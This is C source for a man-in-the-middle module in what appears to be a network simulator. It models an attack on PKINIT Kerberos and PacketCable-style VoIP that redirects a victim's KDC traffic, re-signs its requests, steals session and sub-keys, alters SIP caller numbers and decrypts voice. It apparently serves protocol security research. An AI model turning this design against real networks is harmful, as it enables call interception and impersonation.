/* The man in the middle of PKINIT; see mitm.h. attacks.md K1. */
#include "models/mitm.h"

#include <assert.h>
#include <stdlib.h>
#include <string.h>
#include "crypto/derive.h"
#include "models/call_key.h"
#include "models/message.h"
#include "models/wire/pktc.h"
#include "models/wire/rtp.h"
#include "models/wire/sip.h"

#define ROLE_WRAP "wrap"
#define ROLE_CALL "call.subkey"

struct opened { /* an association that it can open */
	bool used;
	uint32_t peer_ip, spi;      /* the victim's peer; the initiator's SPI */
	bool victim_initiates;
	key_handle subkey, wrap;
	struct esp_sa *up, *down;
	struct esp_sa *seal_up;     /* the initiator's half again, to seal what is changed; NULL: only reads */
};

struct mitm {
	struct mitm_config config;
	struct mitm_facts facts;
	uint32_t victim_ip, kdc_ip;      /* of the conversation under way */
	struct tcp_listener listener;
	struct ip_security hook;
	struct tcp_conn *conn;           /* the victim's, which thinks it is the KDC's */
	struct kdc_client *client;
	struct der request;              /* the victim's */
	struct pkinit_mitm *signed_anew; /* NULL: the request was passed on as it is */
	key_handle session_key;
	struct opened opened[MITM_ASSOCIATIONS_MAX];
	unsigned next_opened;
	bool victim_calls;               /* the newest INVITE came from the victim */
	uint32_t call_spi;               /* of the newest call's sub-key; 0: none */
	uint8_t payload_type;
	struct voice from_victim, to_victim; /* of the newest call */
};

static void changed(struct mitm *m, uint64_t tag)
{
	m->config.changed(m->config.ctx, tag);
}

static bool is_address_of(const struct node *node, uint32_t ip)
{
	for (const struct iface *i = node->ifaces; i; i = i->next)
		if (ip && i->ip == ip)
			return true;
	return false;
}

/* 1. Turning the victim's connection */

static void set_addresses(struct packet *frame, struct wire_view *view, const uint8_t mac[6], uint32_t dst)
{
	memcpy(frame->data, mac, 6);
	put_be32(frame->data + view->ip_at + 16, dst);
	wire_checksums(frame->data, view);
}

/* The victim's segments for the KDC go to our own node, at our address. */
static bool divert(struct mitm *m, struct packet *frame, const struct wire_view *view)
{
	struct wire_view v = *view;

	if (m->facts.gave_up || v.proto != IP_PROTO_TCP || v.dport != KDC_PORT || v.fragment ||
	    !is_address_of(m->config.victim, v.src) || !is_address_of(m->config.kdc, v.dst))
		return false;
	m->victim_ip = v.src;
	m->kdc_ip = v.dst;
	set_addresses(frame, &v, m->config.iface->mac, m->config.iface->ip);
	link_inject(m->config.iface->link, NULL, m->config.iface, frame, 0);
	return true;
}

/* What our node's port 88 says to the victim bears the KDC's address. */
static enum ip_out_verdict answer_as_kdc(struct node *node, void *ctx, struct ip_info *info, struct packet *packet)
{
	struct mitm *m = ctx;
	uint32_t sum;

	(void)node;
	if (info->proto != IP_PROTO_TCP || info->dst != m->victim_ip || packet->len < 20 || get_be16(packet->data) != KDC_PORT)
		return IP_OUT_PASS;
	info->src = m->kdc_ip;
	put_be16(packet->data + 16, 0);
	sum = (info->src >> 16) + (info->src & 0xffff) + (info->dst >> 16) + (info->dst & 0xffff) + IP_PROTO_TCP + packet->len;
	put_be16(packet->data + 16, inet_fold(inet_sum(packet->data, packet->len, sum)));
	return IP_OUT_PASS;
}

/* 2. The AS exchange */

static void end_conversation(struct mitm *m)
{
	struct tcp_conn *conn = m->conn;

	m->conn = NULL;
	if (m->client)
		kdc_client_cancel(m->client);
	pkinit_mitm_free(m->signed_anew);
	m->signed_anew = NULL;
	der_free(&m->request);
	if (conn)
		tcp_abort(conn);
}

static void pass_to_victim(struct mitm *m, const uint8_t *bytes, size_t len)
{
	uint8_t framed[WIRE_LENGTH_PREFIX + KRB_MESSAGE_MAX];
	uint64_t tag;

	if (!m->conn || len > KRB_MESSAGE_MAX)
		return;
	put_be32(framed, (uint32_t)len);
	memcpy(framed + WIRE_LENGTH_PREFIX, bytes, len);
	tag = message_announce(m->config.node, m->kdc_ip, m->victim_ip, kerberos_kind(bytes, len), &form_kerberos, bytes, len);
	changed(m, krb_type(bytes, len) == KRB_AS_REP ? tag : 0);
	tcp_send(m->conn, framed, WIRE_LENGTH_PREFIX + len, tag);
}

static bool copy(struct der *out, const struct der *in)
{
	out->bytes = malloc(in->len ? in->len : 1);
	if (!out->bytes)
		abort();
	memcpy(out->bytes, in->bytes, in->len);
	out->len = in->len;
	return true;
}

/* The request for the KDC: the victim's, signed by us; or as it is when it is not of that kind. */
static bool on_request(void *ctx, struct der *out)
{
	struct mitm *m = ctx;

	pkinit_mitm_free(m->signed_anew);
	m->signed_anew = pkinit_mitm_request(m->config.sm, m->config.identity, m->request.bytes, m->request.len,
	                                     world_now(m->config.node->sim), out);
	return m->signed_anew || copy(out, &m->request);
}

static void open_reply(struct mitm *m, const uint8_t *bytes, size_t len)
{
	struct der to_victim = { 0 };
	key_handle session = 0;

	if (!pkinit_mitm_reply(m->config.sm, m->signed_anew, bytes, len, &session, &to_victim)) {
		m->facts.gave_up = true; /* its next try reaches the KDC */
		end_conversation(m);
		changed(m, 0);
		return;
	}
	sm_destroy_key(m->config.sm, m->session_key);
	m->session_key = session;
	m->facts.session_key = true;
	pass_to_victim(m, to_victim.bytes, to_victim.len);
	der_free(&to_victim);
}

static void on_answer(void *ctx, const uint8_t *bytes, size_t len, uint64_t tag)
{
	struct mitm *m = ctx;

	if (!bytes) {
		end_conversation(m);
		return;
	}
	message_accept(m->config.node, tag);
	if (m->signed_anew && krb_type(bytes, len) == KRB_AS_REP)
		open_reply(m, bytes, len);
	else
		pass_to_victim(m, bytes, len);
}

/* False: it has none, and the conversation is over. */
static bool answer_itself(struct mitm *m)
{
	struct der reply = { 0 };
	bool ok = m->config.answer(m->config.ctx, &m->request, &reply);

	if (ok)
		pass_to_victim(m, reply.bytes, reply.len);
	else
		end_conversation(m);
	der_free(&reply);
	return ok;
}

static size_t on_bytes(struct tcp_conn *conn, void *ctx, const uint8_t *bytes, size_t len, uint64_t tag)
{
	struct mitm *m = ctx;
	struct node *node = m->config.node;
	uint32_t want = len < WIRE_LENGTH_PREFIX ? 0 : get_be32(bytes);

	if (conn != m->conn)
		return len;
	if (want > KRB_MESSAGE_MAX) {
		end_conversation(m);
		return 0;
	}
	if (len < WIRE_LENGTH_PREFIX || len - WIRE_LENGTH_PREFIX < want || m->request.bytes)
		return 0;
	trace_fate(node->sim, tag, node, FATE_INTERCEPTED, "");
	copy(&m->request, &(struct der){ (uint8_t *)(uintptr_t)bytes + WIRE_LENGTH_PREFIX, want });
	if (m->config.answer)
		return answer_itself(m) ? WIRE_LENGTH_PREFIX + want : 0;
	if (!m->client)
		m->client = kdc_client_new(node, m->kdc_ip, true);
	kdc_client_ask(m->client, on_request, on_answer, m);
	return WIRE_LENGTH_PREFIX + want;
}

static void on_closed(struct tcp_conn *conn, void *ctx, enum tcp_end how)
{
	struct mitm *m = ctx;

	(void)how;
	if (m->conn != conn)
		return;
	m->conn = NULL;
	end_conversation(m);
}

static const struct tcp_handler victim_side = { .received = on_bytes, .closed = on_closed };

/* One conversation at a time: a new one means that the victim has given up the last. */
static bool on_accept(struct tcp_listener *listener, struct tcp_conn *conn, const struct tcp_handler **handler, void **ctx)
{
	struct mitm *m = listener->ctx;
	uint32_t ip;
	uint16_t port;

	tcp_peer(conn, &ip, &port);
	if (ip != m->victim_ip)
		return false;
	end_conversation(m);
	m->conn = conn;
	*handler = &victim_side;
	*ctx = m;
	return true;
}

/* 3. The AP exchange */

/* Puts another payload into a UDP frame, which is replaced in place; false: it does not fit. */
static bool replace_payload(struct packet *frame, struct wire_view *v, const uint8_t *bytes, uint32_t len)
{
	uint32_t end = v->payload_at + len;

	if (end > frame->len && end - frame->len > packet_tailroom(frame))
		return false;
	if (end > frame->len)
		packet_append(frame, end - frame->len);
	else
		packet_trim(frame, frame->len - end);
	memcpy(frame->data + v->payload_at, bytes, len);
	put_be16(frame->data + v->segment_at + 4, (uint16_t)(UDP_HEADER_LEN + len));
	put_be16(frame->data + v->ip_at + 2, (uint16_t)(end - v->ip_at));
	v->payload_len = len;
	wire_checksums(frame->data, v);
	return true;
}

static void take_over(struct mitm *m, struct packet *frame, const struct wire_view *v, const uint8_t *bytes, size_t len)
{
	struct node *node = m->config.node;

	trace_fate(node->sim, frame->tag, node, FATE_INTERCEPTED, "");
	frame->tag = message_announce(node, v->src, v->dst, wire_kind_name(v->kind), &form_pktc, bytes, len);
	frame->actor = node;
}

static void rewrite_ap_req(struct mitm *m, struct packet *frame, const struct wire_view *view)
{
	struct wire_view v = *view;
	uint8_t bytes[PKTC_MESSAGE_MAX];
	struct der token = { 0 };
	struct pktc frame_in;
	size_t len = 0;

	if (!m->session_key || !is_address_of(m->config.victim, v.src) ||
	    !pktc_parse(frame->data + v.payload_at, v.payload_len, krb_message_len, &frame_in))
		return;
	if (krb_ap_req_rewrite(m->config.sm, m->session_key, (const uint8_t *)frame_in.kerberos.at, frame_in.kerberos.len,
	                       &m->config.identity->name, &token)) {
		frame_in.kerberos = (struct span){ (const char *)token.bytes, token.len };
		len = pktc_write(&frame_in, bytes, sizeof bytes);
	}
	if (len && sm_hmac_sha1(m->config.sm, m->session_key, bytes, len - PKTC_HASH_LEN, bytes + len - PKTC_HASH_LEN) &&
	    replace_payload(frame, &v, bytes, (uint32_t)len)) {
		memcpy(m->facts.ticket_name, m->config.identity->name.name, sizeof m->facts.ticket_name);
		take_over(m, frame, &v, bytes, len);
		changed(m, 0);
	}
	der_free(&token);
}

static void opened_free(struct mitm *m, struct opened *o)
{
	if (!o->used)
		return;
	esp_sa_free(o->up);
	esp_sa_free(o->down);
	esp_sa_free(o->seal_up);
	sm_destroy_key(m->config.sm, o->wrap);
	sm_destroy_key(m->config.sm, o->subkey);
	*o = (struct opened){ .used = false };
}

/* Both ends' options are the operator's choice, and known to every customer. */
static struct esp_options esp_options_of(const struct mitm *m)
{
	const struct world *world = world_of(m->config.node->sim);

	return (struct esp_options){ .no_auth = !world_on(world, "esp.auth"), .no_replay_window = true,
		                     .implicit_iv = strcmp(world_switch(world, "esp.iv"), "implicit") == 0 };
}

/* Takes the sub-key over. */
static struct opened *open_association(struct mitm *m, uint32_t peer_ip, uint32_t spi, bool victim_initiates,
                                       key_handle subkey, const char *label)
{
	struct opened *o = &m->opened[m->next_opened++ % MITM_ASSOCIATIONS_MAX];
	const struct esp_options options = esp_options_of(m);

	opened_free(m, o);
	*o = (struct opened){ .used = true, .peer_ip = peer_ip, .spi = spi, .victim_initiates = victim_initiates,
		              .subkey = subkey };
	o->up = esp_sa_new(m->config.sm, subkey, label, ESP_UP, spi, "", &options);
	o->down = esp_sa_new(m->config.sm, subkey, label, ESP_DOWN, spi + 1, "", &options);
	o->wrap = sm_derive_des3(m->config.sm, subkey, LABEL_WRAP, ROLE_WRAP);
	assert(o->up && o->down);
	return o;
}

static void read_ap_rep(struct mitm *m, const struct packet *frame, const struct wire_view *v)
{
	const struct esp_options options = esp_options_of(m);
	struct opened *o;
	struct pktc reply;
	key_handle subkey;

	if (!m->session_key || !is_address_of(m->config.victim, v->dst) ||
	    !pktc_parse(frame->data + v->payload_at, v->payload_len, krb_message_len, &reply) ||
	    !krb_ap_rep_read(m->config.sm, m->session_key, (const uint8_t *)reply.kerberos.at, reply.kerberos.len, &subkey))
		return;
	o = open_association(m, v->src, reply.spi, true, subkey, LABEL_CTA_SC);
	o->seal_up = esp_sa_new(m->config.sm, subkey, LABEL_CTA_SC, ESP_UP, reply.spi, "", &options);
	m->facts.subkey = true;
	changed(m, 0);
}

/* 4. Reading */

static struct rtp_cipher *media_cipher(struct mitm *m, key_handle subkey, enum esp_direction direction)
{
	return rtp_cipher_new(m->config.sm, subkey, LABEL_RTP, direction, "",
	                      world_on(world_of(m->config.node->sim), "rtp.mac"));
}

static void media_end(struct mitm *m)
{
	rtp_cipher_free(m->from_victim.cipher);
	rtp_cipher_free(m->to_victim.cipher);
	m->from_victim = m->to_victim = (struct voice){ .seen = false };
	m->call_spi = 0;
}

/* The sub-key of a call in a session description, wrapped for an association whose sub-key we hold. */
static void read_session(struct mitm *m, const struct opened *o, struct span body)
{
	uint8_t wrapped[KEY_WRAPPED_LEN];
	key_handle subkey;
	struct sdp sdp;

	if (!sdp_parse(body, &sdp) || !sdp.key.at || !sdp.spi || sdp.spi == m->call_spi ||
	    base64_decode(sdp.key, wrapped, sizeof wrapped) != KEY_WRAPPED_LEN)
		return;
	subkey = sm_unwrap(m->config.sm, o->wrap, KEY_USAGE_CALL, ROLE_CALL, wrapped, sizeof wrapped);
	if (!subkey)
		return;
	media_end(m);
	m->call_spi = sdp.spi;
	m->payload_type = sdp.payload_type;
	m->from_victim.cipher = media_cipher(m, subkey, m->victim_calls ? ESP_UP : ESP_DOWN);
	m->to_victim.cipher = media_cipher(m, subkey, m->victim_calls ? ESP_DOWN : ESP_UP);
	open_association(m, sdp.ip, sdp.spi, m->victim_calls, subkey, LABEL_CTA_CTA);
}

static void read_sip(struct mitm *m, const struct opened *o, const uint8_t *bytes, size_t len, bool from_victim)
{
	struct sip_message sip;

	if (!sip_parse(bytes, len, &sip))
		return;
	m->facts.read++;
	if (sip.request && sip.method == SIP_INVITE) {
		m->victim_calls = from_victim;
		if (from_victim)
			span_copy(sip_user(sip.uri), m->facts.dialled, sizeof m->facts.dialled);
	}
	if (o->wrap)
		read_session(m, o, sip.body);
	changed(m, 0);
}

/*
 * The controller holds the caller's number against the ticket's name; so the victim's requests are from our number, too. Same
 * length, so that nothing moves. True: changed.
 */
static bool rename_caller(const struct mitm *m, uint8_t *segment, size_t len)
{
	struct sip_message sip;
	struct span user;

	if (!sip_parse(segment + UDP_HEADER_LEN, len - UDP_HEADER_LEN, &sip) || !sip.request)
		return false;
	user = sip_user(sip.from);
	if (user.len != strlen(m->config.number) || span_is(user, m->config.number))
		return false;
	memcpy(segment + (size_t)((const uint8_t *)user.at - segment), m->config.number, user.len);
	return true;
}

/* The UDP checksum of a segment by itself. */
static void udp_checksum(uint8_t *segment, size_t len, const struct wire_view *v)
{
	uint32_t sum = (v->src >> 16) + (v->src & 0xffff) + (v->dst >> 16) + (v->dst & 0xffff) + IP_PROTO_UDP + (uint32_t)len;
	uint16_t folded;

	put_be16(segment + 6, 0);
	folded = inet_fold(inet_sum(segment, len, sum));
	put_be16(segment + 6, folded ? folded : 0xffff);
}

/*
 * Seals the victim's text again and puts it in the place of what came. All packets of the association go this way, changed or
 * not: the numbers are counted by one sender.
 */
static void seal_again(struct mitm *m, struct opened *o, struct packet *frame, const struct wire_view *v, const uint8_t *text,
                       size_t len)
{
	uint8_t room[ESP_FRONT_MAX + WIRE_FRAME_MAX + ESP_BACK_MAX], *segment = room + ESP_FRONT_MAX, *start;
	bool changed_text;
	size_t sealed_len;

	memcpy(segment, text, len);
	changed_text = rename_caller(m, segment, len);
	if (changed_text) {
		struct node *node = m->config.node;

		udp_checksum(segment, len, v);
		trace_fate(node->sim, frame->tag, node, FATE_INTERCEPTED, "");
		frame->tag = message_announce(node, v->src, v->dst, wire_kind_name(WIRE_SIP), &form_sip, segment + UDP_HEADER_LEN,
		                              len - UDP_HEADER_LEN);
		frame->actor = node;
		trace_cover(node->sim, frame->tag, COVER_ESP);
	}
	if (esp_seal(o->seal_up, segment, len, IP_PROTO_UDP, &start, &sealed_len) == ESP_OK && sealed_len == v->payload_len)
		memcpy(frame->data + v->payload_at, start, sealed_len);
	crypto_wipe(room, sizeof room);
}

static void read_esp(struct mitm *m, struct packet *frame, const struct wire_view *v)
{
	bool from_victim = is_address_of(m->config.victim, v->src);
	uint8_t bytes[WIRE_FRAME_MAX], *text, next_header;
	uint32_t peer = from_victim ? v->dst : v->src;
	size_t len;

	if (v->fragment || (!from_victim && !is_address_of(m->config.victim, v->dst)))
		return;
	for (size_t i = 0; i < MITM_ASSOCIATIONS_MAX; i++) {
		struct opened *o = &m->opened[i];
		bool up = from_victim == o->victim_initiates;

		if (!o->used || o->peer_ip != peer || v->spi != (up ? o->spi : o->spi + 1))
			continue;
		memcpy(bytes, frame->data + v->payload_at, v->payload_len);
		if (esp_open(up ? o->up : o->down, bytes, v->payload_len, &text, &len, &next_header) == ESP_OK &&
		    next_header == IP_PROTO_UDP && len > UDP_HEADER_LEN) {
			if (up && o->seal_up)
				seal_again(m, o, frame, v, text, len);
			read_sip(m, o, text + UDP_HEADER_LEN, len - UDP_HEADER_LEN, from_victim);
			return;
		}
	}
}

/*
 * Without MAC a wrong key passes for RTP now and then; so length, payload type and one source for the whole stream must
 * fit, too.
 */
bool voice_open(struct voice *voice, uint8_t payload_type, const struct packet *frame, const struct wire_view *v)
{
	uint8_t bytes[WIRE_FRAME_MAX];
	struct rtp_header header;
	size_t len, at;

	if (!voice->cipher || v->fragment)
		return false;
	memcpy(bytes, frame->data + v->payload_at, v->payload_len);
	len = rtp_open(voice->cipher, bytes, v->payload_len);
	if (len != RTP_HEADER_LEN + RTP_PAYLOAD_LEN || !rtp_parse(bytes, len, &header, &at) ||
	    header.payload_type != payload_type || (voice->seen && header.ssrc != voice->ssrc))
		return false;
	voice->seen = true;
	voice->ssrc = header.ssrc;
	return true;
}

static void read_rtp(struct mitm *m, const struct packet *frame, const struct wire_view *v)
{
	bool from_victim = is_address_of(m->config.victim, v->src);

	if (!from_victim && !is_address_of(m->config.victim, v->dst))
		return;
	if (voice_open(from_victim ? &m->from_victim : &m->to_victim, m->payload_type, frame, v)) {
		m->facts.rtp_opened++;
		changed(m, 0);
	}
}

bool mitm_frame(struct mitm *m, struct packet *frame, const struct wire_view *view)
{
	switch (view->kind) {
	case WIRE_AP_REQ:
		rewrite_ap_req(m, frame, view);
		return false;
	case WIRE_AP_REP:
		read_ap_rep(m, frame, view);
		return false;
	case WIRE_ESP:
		read_esp(m, frame, view);
		return false;
	case WIRE_RTP:
		read_rtp(m, frame, view);
		return false;
	default:
		return divert(m, frame, view);
	}
}

/* Life */

struct mitm *mitm_new(const struct mitm_config *config)
{
	struct mitm *m = sim_alloc(sizeof *m);

	m->config = *config;
	m->listener = (struct tcp_listener){ .node = config->node, .port = KDC_PORT, .accept = on_accept, .ctx = m };
	if (!tcp_listen(config->node, &m->listener)) {
		free(m);
		return NULL;
	}
	m->hook = (struct ip_security){ answer_as_kdc, m };
	ip_set_security(config->node, &m->hook);
	return m;
}

void mitm_free(struct mitm *m)
{
	if (!m)
		return;
	tcp_unlisten(&m->listener);
	end_conversation(m);
	ip_set_security(m->config.node, NULL); /* last: what ended the connection still bore the KDC's address */
	if (m->client)
		m->config.retire(m->config.ctx, m->client);
	media_end(m);
	for (size_t i = 0; i < MITM_ASSOCIATIONS_MAX; i++)
		opened_free(m, &m->opened[i]);
	sm_destroy_key(m->config.sm, m->session_key);
	free(m);
}

const struct mitm_facts *mitm_facts(const struct mitm *m)
{
	return &m->facts;
}
